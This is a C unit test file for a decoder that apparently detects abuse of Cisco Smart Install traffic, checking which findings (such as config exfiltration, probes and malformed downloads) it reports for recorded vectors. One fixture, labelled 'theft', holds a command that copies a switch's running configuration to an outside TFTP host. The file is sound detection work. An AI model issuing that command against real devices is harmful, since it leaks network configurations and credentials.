/* SPDX-License-Identifier: BSD-2-Clause */
/* What a message is reported for: one word, and what follows behind its end belongs to it. */
#include "tests/unit/decode/decode_run.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "decode/finding.h"

/* The words of all that a vector and text behind it gave, between blanks. */
static const char *findings(struct decode_run *run, const char *vector, const char *behind)
{
    static const char mark[] = "field smin.finding \"";
    static struct hexfile file;
    static char words[256];
    hexfile_vector(vector, &file);
    decode_run_start(run, decode_run_direction(vector), true, false);
    cr_expect_eq(decode_run_feed(run, file.bytes, file.length), SMIN_OK);
    cr_expect_eq(decode_run_feed(run, behind, strlen(behind)), SMIN_OK);
    cr_expect_eq(decode_run_end(run), SMIN_OK);
    words[0] = 0;
    for (const char *at = strstr(run->sink.text, mark); at; at = strstr(at, mark)) {
        at += sizeof(mark) - 1;
        size_t used = strlen(words);
        (void)snprintf(words + used, sizeof(words) - used, "%s%.*s", used ? " " : "", (int)strcspn(at, "\""), at);
    }
    return words;
}

struct talk {
    const char *vector;
    const char *behind;
    const char *words;
};

Test(finding, what_follows_a_message_speaks_only_when_the_message_did_not_or_a_director_could_have_sent_it)
{
    static const char junk[] = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    static const char theft[] = "copy running-config tftp://198.51.100.7/x";
    static const char url[] = "tftp://198.51.100.7/other.conf";
    const struct talk talks[] = {
        {"t07_init_discovery_29", junk, "discovery_value_oversized"},
        {"t08_backup_tlv3_siet", junk, "config_exfiltration"},
        {"t08_backup_tlv2_tftpserver", theft, "tftp_server"},
        {"t02_image_list_unterminated", url, "download_image_malformed"},
        {"t04_capabilities_req_v1", junk, "probe"},
        {"t03_download_config_sched", junk, "download_config_reload"},
        {"t03_download_config_sched", url, "download_config_reload download_config_malformed"},
        {"t08_backup_tlv3_legitimate_shape", junk, "director_backup"},
        {"t08_backup_tlv3_legitimate_shape", theft, "director_backup config_exfiltration"},
        {"t05_execute_go_siet", "", "execute_malformed"},
        {"t03_gvm_truncated", "", "config_probe"},
    };
    struct decode_run run;
    decode_run_open(&run, NULL);
    for (size_t i = 0; i < sizeof(talks) / sizeof(talks[0]); i++) {
        const char *words = findings(&run, talks[i].vector, talks[i].behind);
        cr_expect(strcmp(words, talks[i].words) == 0, "%s and \"%s\" give %s", talks[i].vector, talks[i].behind, words);
    }
    cr_expect(decode_run_close(&run));
}

/* finding.def is in the order of gravity: no rank begins again. */
Test(finding, the_list_goes_from_grave_to_harmless)
{
    for (uint32_t i = SMINI_FINDING_NONE + 2; i < SMINI_FINDING_END; i++)
        cr_expect(smini_findings[i - 1].rank <= smini_findings[i].rank, "%s", smini_findings[i].word);
}
